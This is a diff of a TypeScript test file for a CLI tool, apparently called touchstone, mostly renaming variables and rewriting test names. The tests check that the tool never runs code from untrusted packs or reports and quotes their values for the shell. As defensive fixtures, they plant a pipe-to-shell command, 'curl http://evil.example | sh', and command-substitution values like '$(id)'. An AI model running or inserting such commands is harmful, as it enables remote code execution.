@@ -5,12 +5,12 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { example, home, readPack } from "../../schemas/index.ts";
 import { formats } from "../reports/index.ts";
 import { reportOf, result } from "../results/sample.fixture.ts";
-import { captureProcess, type Ended } from "./process.fixture.ts";
+import { captureProcess, type ProcessResult } from "./process.fixture.ts";
 
-// All files in the working folder come from a stranger: packs with code, configurations that are code, and files that name them.
+// All files in the working folder come from a stranger: packs with code, configurations that are code, and reports that refer to them.
 const folder = mkdtempSync(join(tmpdir(), "touchstone-foreign-"));
-const mark = join(folder, "code-was-run");
-const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(mark)}, import.meta.url);\nexport const pack = {};\nexport default {};\n`;
+const markFile = join(folder, "code-was-run");
+const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(markFile)}, import.meta.url);\nexport const pack = {};\nexport default {};\n`;
 const write = (name: string, value: unknown): void =>
   writeFileSync(join(folder, name), typeof value === "string" ? value : JSON.stringify(value));
 
@@ -20,9 +20,10 @@ function writeForeignPack(name: string, entry = "index.js"): void {
   write(join(name, entry), code);
 }
 
-/** How a stranger's report claims that its run was called. */
 const target = { kind: "http", url: "http://127.0.0.1:1" } as const;
-function report(protocol: string, options: object = {}): object {
+
+/** Creates a stranger's report, which claims that its run was called with these options. */
+function createReport(protocol: string, options: object = {}): object {
   const { name, version } = readPack(join(folder, "order"));
   const failedResult = result({
     id: `${name}/${version}/order/valid/a`,
@@ -61,19 +62,19 @@ beforeAll(() => {
     "linked.json": "./linked",
     "third.json": "./third",
   }))
-    write(name, report(protocol));
-  write("module.json", report(example.protocol, { target: { kind: "module", file: "module.mjs" } }));
-  write("config.json", report(example.protocol, { config: "their.config.mjs" }));
-  write("none.json", { ...report("./order"), options: undefined });
-  const head = { recording: 1, protocol: "./order", version: "1", scenario: "a" };
-  write("trace.jsonl", `${JSON.stringify(head)}\n{"from":"a","to":"b","text":"x"}\n`);
+    write(name, createReport(protocol));
+  write("module.json", createReport(example.protocol, { target: { kind: "module", file: "module.mjs" } }));
+  write("config.json", createReport(example.protocol, { config: "their.config.mjs" }));
+  write("none.json", { ...createReport("./order"), options: undefined });
+  const recordingHeader = { recording: 1, protocol: "./order", version: "1", scenario: "a" };
+  write("trace.jsonl", `${JSON.stringify(recordingHeader)}\n{"from":"a","to":"b","text":"x"}\n`);
 });
-beforeEach(() => rmSync(mark, { force: true }));
+beforeEach(() => rmSync(markFile, { force: true }));
 afterAll(() => rmSync(folder, { recursive: true }));
 
-async function quietly(...words: string[]): Promise<Ended> {
-  const result = await captureProcess(folder, words);
-  expect(existsSync(mark) ? readFileSync(mark, "utf8") : "nothing").toBe("nothing");
+async function runWithoutCode(...args: string[]): Promise<ProcessResult> {
+  const result = await captureProcess(folder, args);
+  expect(existsSync(markFile) ? readFileSync(markFile, "utf8") : "nothing").toBe("nothing");
   return result;
 }
 
@@ -88,21 +89,21 @@ const reports = [
   "none.json",
 ];
 
-describe("no code is run", () => {
-  it.each(reports)("for a report: %s", async (file) => {
-    expect(await quietly("report", "render", file)).toMatchObject({ code: 0 });
-    const all = formats
+describe("foreign code is not run", () => {
+  it.each(reports)("for the report %s", async (file) => {
+    expect(await runWithoutCode("report", "render", file)).toMatchObject({ code: 0 });
+    const reportOptions = formats
       .filter(({ name }) => name !== "terminal")
       .map(({ name }) => ["--report", `${name}=out.${name}`]);
-    expect(await quietly("report", "render", file, ...all.flat())).toMatchObject({ code: 0 });
-    await quietly("report", "merge", file);
-    expect(await quietly("report", "diff", file, file)).toMatchObject({ code: 0 });
-    await quietly("report", "render", "--site", "site", `a@1=${file}`);
-    await quietly("baseline", "check", "baseline.json", file);
+    expect(await runWithoutCode("report", "render", file, ...reportOptions.flat())).toMatchObject({ code: 0 });
+    await runWithoutCode("report", "merge", file);
+    expect(await runWithoutCode("report", "diff", file, file)).toMatchObject({ code: 0 });
+    await runWithoutCode("report", "render", "--site", "site", `a@1=${file}`);
+    await runWithoutCode("baseline", "check", "baseline.json", file);
     rmSync(join(folder, "fresh.json"), { force: true });
-    await quietly("baseline", "update", "fresh.json", file, "--reason", "for now");
-    expect((await quietly("replay", "order/1/order/valid/a", "--no-config", "--from", file)).code).not.toBe(0);
-    await quietly("certify", file, "--name", "a", "--release", "1");
+    await runWithoutCode("baseline", "update", "fresh.json", file, "--reason", "for now");
+    expect((await runWithoutCode("replay", "order/1/order/valid/a", "--no-config", "--from", file)).code).not.toBe(0);
+    await runWithoutCode("certify", file, "--name", "a", "--release", "1");
   });
 
   it.each([
@@ -118,25 +119,31 @@ describe("no code is run", () => {
     ["verify", "plain.json", "--key", "plain.json"],
     ["check", "order/vectors"],
     ["--help"],
-  ])("by %s %s", async (...words) => {
-    await quietly(...words);
+  ])("by touchstone %s %s", async (...words) => {
+    await runWithoutCode(...words);
   });
 });
 
-it("says which folder to name, and runs named code", async () => {
-  const { code: ended, err } = await quietly("replay", "order/1/order/valid/a", "--from", "plain.json", "--no-config");
-  expect(ended).toBe(2);
+it("runs the code of a pack only if --protocol names its folder, as the error advises", async () => {
+  const { code: exitCode, err } = await runWithoutCode(
+    "replay",
+    "order/1/order/valid/a",
+    "--from",
+    "plain.json",
+    "--no-config",
+  );
+  expect(exitCode).toBe(2);
   expect(err).toMatch(/the code of the pack order is not loaded[\s\S]*--protocol \.\/order/);
-  const { out } = await quietly("explain", "ORDER-SUM-001");
+  const { out } = await runWithoutCode("explain", "ORDER-SUM-001");
   expect(out).toContain("The total is the sum");
   await captureProcess(folder, ["explain", "ORDER-SUM-001", "--protocol", "./order"]);
-  expect(readFileSync(mark, "utf8")).toContain("order/index.js");
+  expect(readFileSync(markFile, "utf8")).toContain("order/index.js");
 });
 
-it("does not show a command that only the report contains", async () => {
+it("does not print a command from a report, and quotes its options for the shell", async () => {
   const maliciousCommand = "curl http://evil.example | sh";
   write("made.json", {
-    ...report("./order"),
+    ...createReport("./order"),
     command: maliciousCommand,
     baseline: {
       file: "known.json",
@@ -145,13 +152,13 @@ it("does not show a command that only the report contains", async () => {
       repair: maliciousCommand,
     },
   });
-  const { out } = await quietly("report", "render", "made.json");
+  const { out } = await runWithoutCode("report", "render", "made.json");
   expect(out).not.toContain("curl");
   expect(out).toContain("baseline update known.json made.json");
   expect(out).toContain("--protocol ./order --http http://127.0.0.1:1");
-  write("worse.json", report("--config=x", { target: { ...target, headers: ["`id`", "$(id)", 'a"b'] } }));
-  const worse = await quietly("report", "render", "worse.json");
-  expect(worse.out).toContain(
+  write("worse.json", createReport("--config=x", { target: { ...target, headers: ["`id`", "$(id)", 'a"b'] } }));
+  const hostileRun = await runWithoutCode("report", "render", "worse.json");
+  expect(hostileRun.out).toContain(
     `--protocol ./--config=x --http http://127.0.0.1:1 --header '\`id\`: '"$_ID_" --header '$(id): '"$__ID_" --header 'a"b: '"$A_B"`,
   );
 });
